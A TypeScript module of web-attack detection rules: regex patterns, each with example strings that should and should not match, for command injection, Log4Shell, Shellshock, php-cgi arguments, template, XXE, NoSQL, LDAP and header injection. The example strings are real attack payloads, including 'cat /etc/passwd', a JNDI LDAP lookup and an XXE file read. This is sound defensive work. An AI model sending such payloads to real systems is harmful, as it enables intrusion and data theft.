import { ANY, C } from '../charMask.js';
import { PARAMS, REQUEST, REQUEST_AND_UA, type Rule } from './rule.js';

const CMDS =
  'id|whoami|uname|cat|ls|pwd|wget|curl|nc|ncat|netcat|bash|sh|zsh|ksh|ping|nslookup|dig|sleep|echo|chmod|chown|rm|mkdir|touch|python[23]?|perl|php|ruby|powershell|pwsh|cmd|cmd\\.exe|dir|type|net|ipconfig|ifconfig|systeminfo|tasklist|certutil|bitsadmin|telnet|uptime|hostname|env|printenv|ps|netstat|find|head|tail|xterm|kill|reboot|shutdown|expr';
// Tools no one names in prose, so a separator glued to one is a command being run whatever
// follows (&nslookup x&, |whoami, $(wget …)); "a; ping me" or "Tips; PowerShell" keep their space.
const RARE_CMDS =
  'nslookup|whoami|uname|ifconfig|ipconfig|netstat|systeminfo|tasklist|certutil|bitsadmin|powershell|wget|curl';
const BIN = '(?:/(?:usr/)?(?:local/)?s?bin/)?';
// What follows a command that is being run rather than mentioned: an option, a path, a number,
// a variable, a quote, another separator, or the end.
const CMD_END = `(?:\\s{1,5}(?:-|/|\\\\|\\.|\\d|\\$|~|[a-z]:|'|")|\\s{0,5}(?:[;|&\`)#<>]|\\$|$))`;

/** Command and code injection, template and include injection, query languages, headers. */
export const injectionRules: readonly Rule[] = [
  {
    id: 'rce.shell-command',
    type: 'rce',
    summary: 'a shell separator (; | && ` $( newline) followed by a command being run',
    // Not user agents: their ';'-separated tokens ("ARM; Touch;", "; id)") read like commands.
    // set|set&set is Acunetix's Windows probe (`set` alone is too common a word to list).
    locations: REQUEST,
    trigger: C.SEP | C.QUOTE | C.BRACE | C.CTRL,
    pattern: new RegExp(
      `(?:[;|\`\\n]|&&|\\$\\()\\s{0,5}${BIN}(?:${CMDS})${CMD_END}|&\\s{0,5}${BIN}(?:${CMDS})\\s{1,5}(?:-|/|\\\\|\\d|\\$)|^\\s{0,5}(?:${CMDS})\\s{0,5}(?:[;|\`]|&&)|(?:[;|\`&]|\\$\\(\\s{0,5})${BIN}(?:${RARE_CMDS})(?:\\.exe)?\\b|\\bset\\|set&set\\b`,
    ),
    examples: {
      match: [
        ';id;',
        'a);id',
        '`uname`',
        '$;/usr/bin/id',
        '+|+dir+c:/+|',
        '"| /bin/sleep 31 ;',
        'id|',
        'x && cat /etc/hosts',
        '& ping -n 30 127.0.0.1 &',
        "&nslookup A90TQOGX&'\\\"`0&nslookup A90TQOGX&`'",
        '|nslookup xyz.example',
        '$(nslookup wM4jKgxD)',
        "'&expr 268409241 - 2 &'",
        'set|set&set',
      ],
      miss: [
        'Tom; cat lovers',
        'R&D id',
        'pipe | type text',
        'a; echo hello',
        'ls',
        'dogs & cat',
        'Tips; PowerShell for beginners',
        'a; ping me later',
        'game, set & match',
      ],
    },
  },
  {
    id: 'rce.command-line',
    type: 'rce',
    summary: 'a whole value that is a command line: a shell tool, then an option or a path',
    locations: ['query', 'body', 'cookie', 'header'],
    trigger: C.SPACE | C.CTRL,
    pattern: new RegExp(
      `^\\s{0,5}(?:${CMDS})(?:\\.exe)?\\s{1,5}(?:-[a-z]{1,10}\\b|/|[a-z]:[\\\\/])`,
    ),
    examples: {
      match: ['+dir+c:/', 'ls -al', 'cat /etc/passwd', 'ping.exe -n 31 127.0.0.1'],
      miss: ['cat food', 'type a', 'find your size'],
    },
  },
  {
    id: 'rce.binary-path',
    type: 'rce',
    summary:
      'an absolute path to a shell tool (/bin/sh, /usr/bin/id) at a value start or after a separator',
    locations: REQUEST_AND_UA,
    trigger: C.SLASH,
    keywords: ['bin/'],
    pattern: new RegExp(`(?:^|[\\s;|&\`'"(=])/(?:usr/)?(?:local/)?s?bin/(?:${CMDS})\\b`),
    examples: {
      match: ['/bin/ls -al', '/usr/bin/id;', 'x=/bin/sh'],
      miss: ['/static/bin/app.js', '/cabin/id', '/bin/custom'],
    },
  },
  {
    id: 'rce.code-eval',
    type: 'rce',
    summary:
      'server-side code execution calls (PHP system/exec, Java Runtime, Python os, OGNL) and echo probes',
    locations: REQUEST_AND_UA,
    trigger: C.PAREN | C.ANGLE | C.BRACE | C.DOT,
    keywords: ['(', '<?', '%{', 'java.lang.'],
    // Echo probes: a product only the injected code computes, written back by ASP
    // (Acunetix: "+response.write(9495727*9561186)+") or PHP (Netsparker: print(int)0xFFF9999-22).
    pattern:
      /\bresponse\.write\s{0,3}\(\s{0,3}\d{1,12}\s{0,3}[*+-]\s{0,3}\d|['"]\s{0,3}\+\s{0,3}response\.write\s{0,3}\(|\bprint\s{0,3}\(\s{0,3}int\s{0,3}\)\s{0,3}(?:0x[0-9a-f]|\d)|\b(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert|phpinfo|base64_decode|call_user_func|call_user_func_array|create_function|file_get_contents|file_put_contents)\(\s{0,3}['"$\w]|\bphpinfo\(\s{0,3}\)|<\?php|<\?=|\bruntime\.getruntime\s{0,3}\(|\bjava\.lang\.(?:runtime|processbuilder)\b|\b__import__\s{0,3}\(\s{0,3}['"]os|\bos\.(?:system|popen)\s{0,3}\(|\bsubprocess\.(?:call|popen|run|check_output)\s{0,3}\(|\brequire\s{0,3}\(\s{0,3}['"]child_process|\bprocess\.mainmodule\b|%\{\s{0,3}[#(@]|\(#[a-z_]{1,30}=|@java\.lang\./,
    examples: {
      match: [
        'system("id")',
        '<?php echo 1; ?>',
        "__import__('os').system('id')",
        "%{(#_='multipart/form-data')}",
        '"%2bresponse.write(9495727*9561186)%2b"',
        'response.write(9480314*9217198)',
        "'%2bprint(int)0xFFF9999-22%2b'",
      ],
      miss: [
        'system (beta)',
        'operating system',
        'php version 8',
        'vim: assert()',
        'Response.Write(name)',
        'print (int) values',
      ],
    },
  },
  {
    id: 'rce.log4shell',
    type: 'rce',
    summary: 'Log4j lookups (${jndi:…} and its obfuscations)',
    locations: REQUEST_AND_UA,
    trigger: C.BRACE,
    pattern:
      /\$\{\s{0,5}(?:jndi\s{0,3}:|\$\{\s{0,5}(?:lower|upper|::-|env|sys)|(?:lower|upper|env|sys|date|main|base64|ctx|java|k8s|docker|spring|web|bundle|jvmrunargs|marker|sd|log4j)\s{0,3}:)/,
    examples: {
      match: ['${jndi:ldap://x.example/a}', '${${lower:j}ndi:x}', '${${::-j}${::-n}di:x}'],
      miss: ['${name}', '$ {jndi}', 'price ${total}'],
    },
  },
  {
    id: 'rce.shellshock',
    type: 'rce',
    summary: 'a bash function definition, as in Shellshock (CVE-2014-6271)',
    locations: REQUEST_AND_UA,
    trigger: C.PAREN,
    pattern: /\(\s{0,3}\)\s{0,3}\{\s{0,3}[:;a-z_]{1,20}\s{0,3};?\s{0,3}\}\s{0,3};/,
    examples: {
      match: ['() { :; }; /bin/bash -c id', '() { :;};echo'],
      miss: ['f() { return x }', '() {}'],
    },
  },
  {
    // php-cgi reads a query string without a raw '=' as command-line options (CVE-2012-1823;
    // CVE-2024-4577 writes the hyphen as a soft hyphen, %AD), so -d allow_url_include=on
    // -d auto_prepend_file=php://input runs the request body. The whole query is then one
    // parameter name, which is why names are read too.
    id: 'rce.php-cgi-args',
    type: 'rce',
    summary: 'php-cgi command-line options in the query string (-d allow_url_include=on)',
    locations: ['query'],
    parts: ['name', 'value'],
    trigger: C.EQ,
    keywords: [
      'allow_url_include',
      'auto_prepend_file',
      'auto_append_file',
      'safe_mode',
      'open_basedir',
      'disable_functions',
      'suhosin.simulation',
      'cgi.force_redirect',
    ],
    pattern:
      /(?:^|\s)[-\u00ad]d\s{1,5}(?:allow_url_include|auto_prepend_file|auto_append_file|safe_mode|open_basedir|disable_functions|suhosin\.simulation|cgi\.force_redirect)\s{0,3}=/,
    examples: {
      match: [
        '-d allow_url_include=on -d auto_prepend_file=php://input',
        '%2D%64+%61%6C%6C%6F%77%5F%75%72%6C%5F%69%6E%63%6C%75%64%65%3D%6F%6E+%2D%64+%73%61%66%65%5F%6D%6F%64%65%3D%6F%66%66',
        '%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input',
      ],
      miss: ['allow_url_include=on', 'docs about -d safe_mode', 'x-d allow_url_include=1'],
    },
  },
  {
    id: 'ssti.expression',
    type: 'ssti',
    summary:
      'template expressions that compute or reach into objects ({{7*7}}, ${7*7}, {% import %})',
    locations: REQUEST_AND_UA,
    trigger: C.BRACE | C.ANGLE,
    pattern:
      /\{\{[^}]{0,80}?(?:\d\s{0,3}[*+/-]\s{0,3}\d|__[a-z]{2,20}__|\bconfig\b|\brequest\b|\bself\b|\blipsum\b|\bcycler\b|\bjoiner\b|\bnamespace\b|\bconstructor\b|\bget_flashed_messages\b|\burl_for\b|\|attr\b|\._self\b|\bsettings\.)|[$#]\{\s{0,3}\d{1,10}\s{0,3}[*+]\s{0,3}\d{1,10}\s{0,3}\}|<%=\s{0,5}\d{1,6}\s{0,3}[*+]|\{%\s{0,5}(?:import|include|set|debug|load|extends|macro|print)\b|\$\{\s{0,3}(?:t\s{0,3}\(|class\.|''\.|""\.|new\s|freemarker\.|@)|<#assign\b|\{php\}|\{\$smarty|#set\s{0,3}\(\s{0,3}\$/,
    examples: {
      match: [
        '{{7*7}}',
        '{{config.items()}}',
        '${7*7}',
        '{{ self.__init__ }}',
        '<#assign ex="x">',
        '%24{9999993%2b9999290}',
      ],
      miss: ['{{ name }}', '${price}', '7*7=49', '${12345678901+1}'],
    },
  },
  {
    id: 'ssi.directive',
    type: 'ssi',
    summary: 'a server-side include directive (<!--#exec, <!--#include …)',
    locations: REQUEST_AND_UA,
    trigger: C.ANGLE,
    pattern:
      /<!--\s{0,5}#\s{0,5}(?:exec|include|echo|config|set|printenv|fsize|flastmod|if|elif|else|endif)\b/,
    examples: {
      match: ['<!--#exec cmd="ls"-->', '<!--#include file="/etc/passwd"-->'],
      miss: ['<!-- comment -->', '#include <stdio.h>'],
    },
  },
  {
    id: 'xxe.entity',
    type: 'xxe',
    summary: 'XML entity or DOCTYPE declarations, external SYSTEM identifiers, XInclude',
    locations: REQUEST,
    trigger: C.ANGLE | C.COLON,
    keywords: ['<!', 'system', '<xi:', 'xmlns:xi'],
    pattern:
      /<!entity\s|<!doctype\s{1,5}[^>[]{0,200}\[|\bsystem\s{1,5}['"](?:file|https?|ftp|php|expect|jar|gopher|netdoc):|<xi:include\b|\bxmlns:xi\s{0,3}=/,
    examples: {
      match: [
        '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        '<xi:include href="file:///etc/passwd"/>',
      ],
      miss: ['<!DOCTYPE html>', '<entity>name</entity>'],
    },
  },
  {
    id: 'nosqli.operator-name',
    type: 'nosqli',
    summary: 'a MongoDB query operator as a parameter name (user[$ne]=, JSON key "$where")',
    locations: PARAMS,
    parts: ['name'],
    trigger: C.BRACE,
    pattern:
      /(?:\[\s{0,3}|^|\.)\$(?:ne|eq|gt|gte|lt|lte|in|nin|regex|where|exists|or|and|nor|not|expr|elemmatch|size|type|all|options|function|text|jsonschema)(?:\s{0,3}\]|$|\.)/,
    // Examples of a name-only rule are parameter names.
    examples: {
      match: ['user[$ne]', 'password[$regex]', 'filter.$where'],
      miss: ['price[min]', 'user', '$total'],
    },
  },
  {
    id: 'nosqli.operator-json',
    type: 'nosqli',
    summary: 'a MongoDB operator key inside a value ({"$gt": ""})',
    locations: PARAMS,
    trigger: C.BRACE,
    pattern:
      /["']\s{0,3}\$(?:ne|gt|gte|lt|lte|in|nin|regex|where|exists|or|and|nor|not|expr|elemmatch|function|accumulator|lookup|jsonschema)["']\s{0,3}:/,
    examples: {
      match: ['{"$gt": ""}', "{'$where': 'sleep(100)'}"],
      miss: ['{"price": "$5"}', '"$ne"'],
    },
  },
  {
    id: 'nosqli.js-where',
    type: 'nosqli',
    summary: 'JavaScript aimed at a $where clause (this.x ==, ; return true, db.x.find)',
    locations: PARAMS,
    trigger: ANY,
    keywords: ['this.', 'return ', '||', 'db.', '$where'],
    pattern:
      /\bthis\.\w{1,40}\s{0,3}(?:==|!=|\.match\s{0,3}\()|;\s{0,3}return\s{1,3}(?:true|1|this)\b|['"]\s{0,3}\|\|\s{0,3}['"]?1['"]?\s{0,3}==\s{0,3}['"]?1|\bdb\.\w{1,40}\.find\w{0,10}\s{0,3}\(|\$where\b/,
    examples: {
      match: ["'; return true; var x='", 'this.password.match(/.*/)', "' || '1'=='1"],
      miss: ['this is it', 'return policy'],
    },
  },
  {
    id: 'ldapi.filter',
    type: 'ldapi',
    summary: 'LDAP filter syntax closing and reopening a filter (*)(uid=*), )(|(, )(&)',
    locations: PARAMS,
    trigger: C.PAREN,
    // The first two alternatives are Acunetix's LDAP probes, as sent.
    pattern:
      /!\(\(\)&&!\|\*\|\*\||\^\(#\$!@#\$\)\(\(\)\)\)\*{6}|\*\)\s{0,5}\(\s{0,5}[|&!]?\s{0,5}[\w-]{1,40}\s{0,3}[=~<>]|\)\s{0,5}\(\s{0,5}[|&!]\s{0,5}[()]|\(\s{0,3}(?:objectclass|uid|cn|userpassword|samaccountname|memberof|mail)\s{0,3}=\s{0,3}\*\s{0,3}\)/,
    examples: {
      match: [
        '*)(uid=*))(|(uid=*',
        'admin)(&)',
        '(objectClass=*)',
        '!(()%26%26!%7c*%7c*%7c',
        '%5e(%23%24!%40%23%24)(()))******',
      ],
      miss: ['(a) (b)', 'size (m) (l)', '5*(3)', '!(()) && x'],
    },
  },
  {
    id: 'crlf.header-injection',
    type: 'crlf',
    summary:
      'CR/LF followed by an HTTP header or status line (response splitting), or a Set-Cookie header inside a value',
    locations: REQUEST,
    trigger: C.CTRL | C.COLON,
    keywords: ['\r', '\n', 'set-cookie'],
    pattern:
      /[\r\n][\t ]{0,5}(?:set-cookie|location|content-length|content-type|refresh|x-xss-protection|access-control-allow-[a-z]{1,20}|content-security-policy|cache-control|last-modified|content-disposition|x-forwarded-[a-z]{1,10})\s{0,3}:|[\r\n][\t ]{0,5}http\/\d(?:\.\d)?\s{1,3}\d{3}\b|set-cookie\s{0,3}:\s{0,3}[\w-]{1,40}=/,
    examples: {
      match: [
        'any%3F%0D%0ASet-cookie%3A+Tamper%3D1',
        'x%0d%0aLocation:%20http://evil',
        '%0d%0aHTTP/1.1 200 OK',
        'registroSet-cookie%3A+Tamper%3D1041',
      ],
      miss: ['line one%0d%0aline two', 'Set-Cookie: a', 'about set-cookie headers'],
    },
  },
  {
    id: 'mail_injection.header',
    type: 'mail_injection',
    summary: 'CR/LF followed by a mail address header or SMTP command carrying an address',
    locations: PARAMS,
    trigger: C.CTRL,
    pattern:
      /[\r\n][\t ]{0,5}(?:bcc|cc|to|from|reply-to|sender|return-path)\s{0,3}:[^\r\n@]{0,100}@[\w.-]{1,100}\.\w|[\r\n](?:rcpt\s{1,3}to|mail\s{1,3}from)\s{0,3}:\s{0,3}<?[^\r\n@]{0,100}@/,
    examples: {
      match: ['me@example.com%0ABcc:victim@example.org', 'x%0d%0aRCPT TO:<a@b.example>'],
      miss: ['hello%0d%0aTo: whom it may concern', 'bcc: me@example.com'],
    },
  },
];
